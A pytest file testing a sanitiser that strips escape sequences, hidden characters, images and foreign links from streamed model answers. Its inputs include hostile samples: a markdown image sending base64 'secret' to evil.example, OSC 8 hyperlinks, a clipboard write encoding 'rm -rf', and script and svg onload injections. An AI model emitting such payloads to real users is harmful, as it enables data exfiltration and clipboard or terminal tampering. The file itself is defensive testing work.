"""What a model says cannot hide, move the cursor, load or lead anywhere; the rest comes through as it is."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from smartcloudops.ask.incoming import REMOVED, Cleaner

OWN = ("http://prom.example:9090", "https://mimir.example/prometheus/")


def cleaned(text: str, *, size: int = 0) -> str:
    cleaner = Cleaner(own=OWN)
    pieces = [text[i : i + size] for i in range(0, len(text), size)] if size else [text]
    return "".join(map(cleaner.feed, pieces)) + cleaner.flush()


@pytest.mark.parametrize(
    "text",
    [
        'web-2 is slow [E2]: 97.0 % at 2026-11-26T20:05Z.\n\n- `rate(x{a="b"}[5m]) < 3`\n\tindented',
        "kubectl logs <pod> -n <namespace>; docker pull <image>; a < b > c <= d <> e",
        "see http://prom.example:9090/graph?g0.expr=up and http://prom.example:9090.",
        "(https://mimir.example/prometheus), **http://prom.example:9090**\nhttp://prom.example:9090",
        "größer → ≥ 5 µs, 3 °C, 東京, emoji 🔥 and a [box] (not a link)!",
        "!important, wow! [x], array[0], https is a word, www is a word, c://",
        "",
    ],
)
def test_plain_text_stays(text: str) -> None:
    assert cleaned(text.replace("c://", "c")) == text.replace("c://", "c")


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[31mred\x1b[0m b", "ared b"),
        ("\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "click"),
        ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click"),
        ("\x9d8;;https://evil.example\x9cclick", "click"),
        ("\x9b2Jgone", "gone"),
        ("\x1bPq#0;2\x1b\\x \x1b_apc\x1b\\y \x1b^pm\x1b\\z \x1bXsos\x1b\\", "x y z "),
        ("\x1b]0;never ended\nnext line", "\nnext line"),
        ("\x1b[31\nnext", "\nnext"),
        ("\x1bcreset \x1b(Bcharset \x1b", "reset charset "),
        ("over\rwritten\x08\x08 bell\x07 \x7f\x00", "overwritten bell "),
        ("\x1b]52;c;cm0gLXJm\x07paste", "paste"),
        (
            "zero\u200bwidth \u202eturned\u202c tag\U000e0041\U000e0042 vs\ufe01 \U000e0101 pu\ue000",
            "zerowidth turned tag vs  pu",
        ),
        ("line\u2028end", "line\nend"),
        ("![chart](https://evil.example/p.png?d=c2VjcmV0)", f"[chart] {REMOVED}"),
        ("![](http://evil.example/x)", f"[] {REMOVED}"),
        ("![a][ref]\n[ref]: https://evil.example/p", f"[a] {REMOVED}\n[ref]: hxxps://evil.example/p"),
        ("[![a](http://e.example/i)](http://e.example/l)", f"[[a] {REMOVED}] (hxxp://e.example/l)"),
        ("![a\n](http://e.example)", "![a\n] (hxxp://e.example)"),
        ('<img alt="cpu" src="https://evil.example/x">', f"[cpu] {REMOVED}"),
        ("<img src=//evil.example/x\n>", REMOVED),
        ("<IMG SRC=x", "‹IMG SRC=x"),
        ('<a href="https://evil.example">x</a>', '‹a href="hxxps://evil.example">x</a>'),
        ("<script>x</script> <svg/onload=x>", "‹script>x‹/script> ‹svg/onload=x>"),
        ("[docs](https://evil.example/a)", "[docs] (hxxps://evil.example/a)"),
        ("[graph](http://prom.example:9090/graph)", "[graph] (http://prom.example:9090/graph)"),
        ("[x](javascript:alert)", "[x] (javascript:alert)"),
        ("<https://evil.example>", "<hxxps://evil.example>"),
        ("HTTPS://EVIL.example", "HXXPS://EVIL.example"),
        ("ht\u200btps://evil.example", "hxxps://evil.example"),
        ("http\x1b[0m://evil.example", "hxxp://evil.example"),
        ("ftp://e.example file:///etc", "ftp[:]//e.example file[:]///etc"),
        ("www.evil.example, mailto:a@evil.example", "www[.]evil.example, mailto[:]a@evil.example"),
        ("http://prom.example:9090@evil.example/", "hxxp://prom.example:9090@evil.example/"),
        ("http://prom.example:90901/", "hxxp://prom.example:90901/"),
        ("http://prom.example:9090.evil.example/", "hxxp://prom.example:9090.evil.example/"),
        ("http://prom.example:9090;.evil.example/", "hxxp://prom.example:9090;.evil.example/"),
        ("https://mimir.example/prometheusx", "hxxps://mimir.example/prometheusx"),
        ("http://prom.example:9090/?https://evil.example", "http://prom.example:9090/?hxxps://evil.example"),
        ("https:![//evil.example](x)", f"https:[//evil.example] {REMOVED}"),
        ("hxxps://seen.already.example", "hxxps://seen.already.example"),
    ],
)
def test_what_is_no_plain_text_is_taken_out_or_made_harmless(text: str, shown: str) -> None:
    assert cleaned(text) == shown
    assert cleaned(text, size=1) == shown


def test_cleaning_twice_changes_no_more() -> None:
    once = cleaned("[a](https://e.example) ![b](http://e.example) <img src=x> <a href=x> ftp://x \x1b[31mred")
    assert cleaned(once) == once


PIECES = st.sampled_from(
    [
        *(
            "\x1b",
            "\x1b[",
            "\x1b]",
            "\x1b\\",
            "\x07",
            "\x9b",
            "\x9d",
            "\x9c",
            "31m",
            "8;;",
            "P",
            "\n",
            "\r",
            " ",
            "\x90",
        ),
        *("![", "](", "]", ")", "[", "(", "!", "<", ">", "</", "<img", "<im", "<a", "a", " src=", 'alt="x"', "/"),
        *("http", "https", "://", ":", "//", "h", "ttps:", "www", ".", "mailto", "hxxp", "x"),
        *(OWN[0], OWN[0][:-3], OWN[1], "@evil.example", ",", ";", "\u200b", "\U000e0041", "\u2028", "é", "-", "_", "?"),
    ]
)
TEXTS = st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=14).map("".join)


@given(TEXTS, st.data())
def test_the_result_does_not_depend_on_the_cuts(text: str, data: st.DataObject) -> None:
    whole = cleaned(text)
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=6)))
    cleaner = Cleaner(own=OWN)
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(map(cleaner.feed, pieces)) + cleaner.flush() == whole
    assert cleaned(text, size=1) == whole


@given(TEXTS)
def test_nothing_dangerous_comes_through(text: str) -> None:
    shown = cleaned(text)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\U000e0000-\U000e007f]", shown)
    assert not re.search(r"\]\(|!\[[^\n\]]*\]\(|<img[\s/>]", shown, re.IGNORECASE)
    foreign = shown
    for own in OWN:
        foreign = re.sub(re.escape(own.rstrip("/")) + r"(?=[/?#]|[^\w@%-]*(?:\s|\Z))", "", foreign)
    assert not re.search(r"https?://", foreign, re.IGNORECASE)


@pytest.mark.parametrize("text", ["plain words", "a b c [E2] d", "`x[5m]` is 3.2 %", "web-2: 97 % (was 41 %)."])
def test_plain_text_passes_at_once(text: str) -> None:
    cleaner = Cleaner()
    assert "".join(cleaner.feed(char) for char in f"{text}\n") == f"{text}\n"


def test_only_a_suspicious_tail_is_held() -> None:
    cleaner = Cleaner()
    assert cleaner.feed("see htt") == "see "
    assert cleaner.feed("er") == "htter"
    assert cleaner.feed(" <") == " "
    assert cleaner.feed(" 3 ![alt") == "< 3 "
    assert cleaner.feed("] here") == ""
    assert cleaner.feed("\n") == "![alt] here\n"


@pytest.mark.parametrize(
    "piece", ["![", "](", "<img ", "<", "http://", "![a](", "\x1b]", "\x1b[", "x", "h", "www.", "![a]", OWN[0], "<im"]
)
def test_hostile_answers_take_no_more_than_linear_time(piece: str) -> None:
    text = piece * (200_000 // len(piece))
    started = time.process_time()
    cleaned(text)
    cleaned(text[:40_000], size=7)
    assert time.process_time() - started < 2.0
